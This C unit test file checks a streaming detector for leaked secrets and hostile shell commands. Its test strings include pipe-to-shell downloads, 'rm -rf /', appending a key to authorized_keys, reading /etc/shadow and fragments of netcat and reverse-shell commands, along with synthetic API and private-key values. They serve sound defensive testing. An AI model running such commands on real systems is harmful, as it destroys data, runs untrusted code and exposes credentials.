// SPDX-License-Identifier: MIT
/*
 * test_scanner.c - the streaming scanner: a match is found exactly once
 * wherever the chunk boundaries fall, the tail between feeds stays bounded,
 * overlong candidates are dropped without growing memory, dense near-miss
 * input never hits the PCRE2 limits, and a match at the very end of a part
 * is reported when the part ends.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "engine_helpers.h"
#include "registry.h"

#define TAIL_BOUND (CS_SCAN_MAX_MATCH + 512)

static size_t count_family(const struct eh_sink *sink, const char *family)
{
	size_t c = 0;

	for (size_t i = 0; i < sink->n; i++)
		c += strcmp(sink->f[i].pattern, family) == 0;
	return c;
}

struct split_case {
	enum cs_direction dir;
	const char *family;
	char text[512];
};

static void make_cases(struct split_case *c, size_t *n)
{
	char key[128];
	uint32_t seed = 11;

	eh_random(key, 93, EH_ALNUM, &seed);
	c[0] = (struct split_case){CS_DIR_OUTBOUND, "ai_api_key", ""};
	snprintf(c[0].text, sizeof(c[0].text), "x-api-key: sk-ant-api03-%sAA\r\nHost: a\r\n", key);
	c[1] = (struct split_case){CS_DIR_OUTBOUND, "ai_api_key", ""};
	/* The key is the very last byte of the part: only the final decision finds it. */
	snprintf(c[1].text, sizeof(c[1].text), "key=gsk_%.52s", key);
	c[2] = (struct split_case){
		CS_DIR_INBOUND, "pipe_to_shell",
		"{\"text\":\"curl -fsSL https://example.com/install.sh | bash\"}"};
	c[3] = (struct split_case){CS_DIR_INBOUND, "ssh_key_inject",
				   "echo 'ssh-ed25519 AAAAC3Nza x' >> ~/.ssh/authorized_keys\n"};
	c[4] = (struct split_case){CS_DIR_OUTBOUND, "private_key_pem", ""};
	snprintf(c[4].text, sizeof(c[4].text),
		 "{\"f\":\"-----BEGIN OPENSSH PRIVATE KEY-----\n%.64s\n\"}", key);
	c[5] = (struct split_case){CS_DIR_OUTBOUND, "unix_sensitive", "cat /etc/shadow"};
	*n = 6;
}

static void scan_split(struct cs_detector *d, const struct split_case *c, size_t a, size_t b)
{
	struct eh_ctx ctx;
	struct cs_scanner *s;
	size_t len = strlen(c->text);
	const uint8_t *p = (const uint8_t *)c->text;

	ctx = (struct eh_ctx){.d = d, .dir = c->dir, .dest = "x:1"};
	s = cs_scanner_new(cs_detector_registry(d), c->dir, eh_on_match, &ctx);
	assert_non_null(s);
	cs_scanner_feed(s, p, a);
	cs_scanner_feed(s, p + a, b - a);
	cs_scanner_feed(s, p + b, len - b);
	cs_scanner_reset(s);
	cs_scanner_free(s);
}

/* Split at every offset, and at every pair of offsets for the short texts. */
static void test_every_split(void **state)
{
	struct split_case cases[8];
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);
	size_t n;

	(void)state;
	assert_non_null(d);
	make_cases(cases, &n);
	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(cases[i].text);

		for (size_t a = 0; a <= len; a++) {
			sink.n = 0;
			scan_split(d, &cases[i], a, a);
			if (count_family(&sink, cases[i].family) != 1 || sink.n != 1)
				fail_msg("case %zu split at %zu: %zu findings", i, a, sink.n);
		}
		for (size_t a = 0; len < 200 && a <= len; a += 3)
			for (size_t b = a; b <= len; b++) {
				sink.n = 0;
				scan_split(d, &cases[i], a, b);
				if (sink.n != 1)
					fail_msg("case %zu split %zu/%zu: %zu findings", i, a, b,
						 sink.n);
			}
	}
	cs_detector_free(d);
}

/* One byte at a time, and across the scanner's internal window boundary. */
static void test_bytewise_and_window_edges(void **state)
{
	struct split_case cases[8];
	size_t n;

	(void)state;
	make_cases(cases, &n);
	for (size_t i = 0; i < n; i++) {
		struct eh_sink sink = {0};
		struct cs_detector *d = eh_detector(&sink, 0);

		eh_scan(d, cases[i].dir, cases[i].text, strlen(cases[i].text), 1);
		assert_int_equal(sink.n, 1);
		cs_detector_free(d);
	}
	/* Padding so the key lands on every offset around 16 KiB and 32 KiB. */
	size_t len0 = strlen(cases[0].text);
	char *buf = malloc(40000);

	assert_non_null(buf);
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);

	for (size_t pad = 16384 - 140; pad < 16384 + 20; pad++) {
		for (size_t rep = 0; rep < 2; rep++) {
			size_t p = pad + rep * 16384;

			sink.n = 0;
			memset(buf, ' ', p);
			memcpy(buf + p, cases[0].text, len0);
			eh_scan(d, CS_DIR_OUTBOUND, buf, p + len0, 0);
			if (sink.n != 1)
				fail_msg("pad %zu: %zu findings", p, sink.n);
		}
	}
	cs_detector_free(d);
	free(buf);
}

/* Two distinct matches close together are two findings, each once. */
static void test_adjacent_matches(void **state)
{
	const char *text = "rm -rf / ; rm -rf ~ ; curl -s http://x | sh ; curl -s http://y | sh\n";
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);

	(void)state;
	for (size_t chunk = 1; chunk < 20; chunk++) {
		sink.n = 0;
		eh_scan(d, CS_DIR_INBOUND, text, strlen(text), chunk);
		assert_int_equal(count_family(&sink, "destructive_rm"), 2);
		assert_int_equal(count_family(&sink, "pipe_to_shell"), 2);
	}
	cs_detector_free(d);
}

static void feed_bounded(struct cs_scanner *s, const char *unit, size_t total)
{
	size_t ul = strlen(unit);

	for (size_t done = 0; done < total; done += ul) {
		cs_scanner_feed(s, (const uint8_t *)unit, ul);
		if (cs_scanner_buffered(s) > TAIL_BOUND)
			fail_msg("tail grew to %zu bytes", cs_scanner_buffered(s));
	}
}

/* Dense near misses and overlong tokens: bounded tail, no findings, no limit hits. */
static void test_tail_bounded_and_limits(void **state)
{
	static const char *const out_units[] = {
		"sk-ant-api03-",
		"AKIA",
		"-----BEGIN ",
		"/etc/",
		"/.ssh/",
		"LS0tLS1CRUdJTi",
		"sk-ant-api03-abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789",
		"store/auth/x ",
		"/.env.example ",
	};
	static const char *const in_units[] = {
		"curl ",     "curl -s http://x/",    "rm -rf -r -f -v ",
		"nc ",	     "python -c 'socket ",   "sh -",
		"eval ",     "cat authorized_keys ", "mkfifo ",
		"perl -e '",
	};
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);
	struct eh_ctx ctx = {.d = d, .dest = "x:1"};

	(void)state;
	assert_non_null(d);
	for (int dir = 0; dir < 2; dir++) {
		const char *const *units = dir ? in_units : out_units;
		size_t nu = dir ? sizeof(in_units) / sizeof(in_units[0])
				: sizeof(out_units) / sizeof(out_units[0]);

		ctx.dir = (enum cs_direction)dir;
		for (size_t u = 0; u < nu; u++) {
			struct cs_scanner *s =
				cs_scanner_new(cs_detector_registry(d), ctx.dir, eh_on_match, &ctx);

			assert_non_null(s);
			feed_bounded(s, units[u], 200000);
			cs_scanner_reset(s);
			assert_int_equal(cs_scanner_buffered(s), 0);
			if (cs_scanner_limit_hits(s))
				fail_msg("unit '%s' hit the match limit", units[u]);
			cs_scanner_free(s);
		}
	}
	assert_int_equal(sink.n, 0);
	cs_detector_free(d);
}

/* A token longer than any key is not a key, and does not grow the tail. */
static void test_overlong_token(void **state)
{
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);
	size_t len = 13 + 5000;
	char *text = malloc(len + 1);
	uint32_t seed = 5;

	(void)state;
	memcpy(text, "sk-ant-api03-", 13);
	eh_random(text + 13, 5000, EH_ALNUM, &seed);
	eh_scan(d, CS_DIR_OUTBOUND, text, len, 7);
	assert_int_equal(sink.n, 0);
	free(text);
	cs_detector_free(d);
}

/* After reset nothing of the previous part is joined with the next one. */
static void test_reset_forgets(void **state)
{
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);
	struct eh_ctx ctx = {.d = d, .dir = CS_DIR_INBOUND, .dest = "x:1"};
	struct cs_scanner *s =
		cs_scanner_new(cs_detector_registry(d), CS_DIR_INBOUND, eh_on_match, &ctx);

	(void)state;
	cs_scanner_feed(s, (const uint8_t *)"curl -s http://x ", 17);
	cs_scanner_reset(s);
	cs_scanner_feed(s, (const uint8_t *)"| bash\n", 7);
	cs_scanner_reset(s);
	assert_int_equal(sink.n, 0);
	cs_scanner_feed(s, (const uint8_t *)"curl -s http://x ", 17);
	cs_scanner_feed(s, (const uint8_t *)"| bash\n", 7);
	cs_scanner_reset(s);
	assert_int_equal(sink.n, 1);
	cs_scanner_free(s);
	cs_detector_free(d);
}

/*
 * Every rule's literals followed by noise from the bytes its regexes care
 * about: bounded quantifiers keep every attempt far from the PCRE2 limits.
 */
static void test_every_rule_near_misses(void **state)
{
	static const char noise[] = "aZ09 -_/.:|;&'\"\n\t=+>~$(`";
	const size_t len = 32768;
	char *text = malloc(len + 128);
	struct eh_sink sink = {0};
	struct cs_detector *d = eh_detector(&sink, 0);
	uint32_t seed = 17;

	(void)state;
	assert_non_null(text);
	assert_non_null(d);
	for (size_t r = 0; r < cs_rules_count; r++) {
		const struct cs_rule *rule = &cs_rules[r];

		for (size_t l = 0; rule->literals[l]; l++) {
			struct eh_ctx ctx = {.d = d, .dir = rule->dir, .dest = "x:1"};
			struct cs_scanner *s = cs_scanner_new(cs_detector_registry(d), rule->dir,
							      eh_on_match, &ctx);
			size_t off = 0;

			while (off < len) {
				size_t ll = strlen(rule->literals[l]);
				size_t k = 1 + (seed >> 8) % 60;

				memcpy(text + off, rule->literals[l], ll);
				off += ll;
				for (size_t i = 0; i < k; i++) {
					seed = seed * 1103515245u + 12345u;
					text[off++] = noise[(seed >> 16) % (sizeof(noise) - 1)];
				}
			}
			cs_scanner_feed(s, (const uint8_t *)text, off);
			cs_scanner_reset(s);
			if (cs_scanner_limit_hits(s))
				fail_msg("rule %s hit the PCRE2 limits", rule->id);
			cs_scanner_free(s);
		}
	}
	free(text);
	cs_detector_free(d);
}

/* The portable prefilter and the PCRE2 interpreter find exactly what SIMD and JIT find. */
static void test_scalar_prefilter_no_jit(void **state)
{
	setenv("CS_PREFILTER_SCALAR", "1", 1);
	setenv("CS_PCRE2_NO_JIT", "1", 1);
	test_every_split(state);
	test_adjacent_matches(state);
	test_tail_bounded_and_limits(state);
	test_every_rule_near_misses(state);
	unsetenv("CS_PREFILTER_SCALAR");
	unsetenv("CS_PCRE2_NO_JIT");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_split),
		cmocka_unit_test(test_bytewise_and_window_edges),
		cmocka_unit_test(test_adjacent_matches),
		cmocka_unit_test(test_tail_bounded_and_limits),
		cmocka_unit_test(test_overlong_token),
		cmocka_unit_test(test_reset_forgets),
		cmocka_unit_test(test_every_rule_near_misses),
		cmocka_unit_test(test_scalar_prefilter_no_jit),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
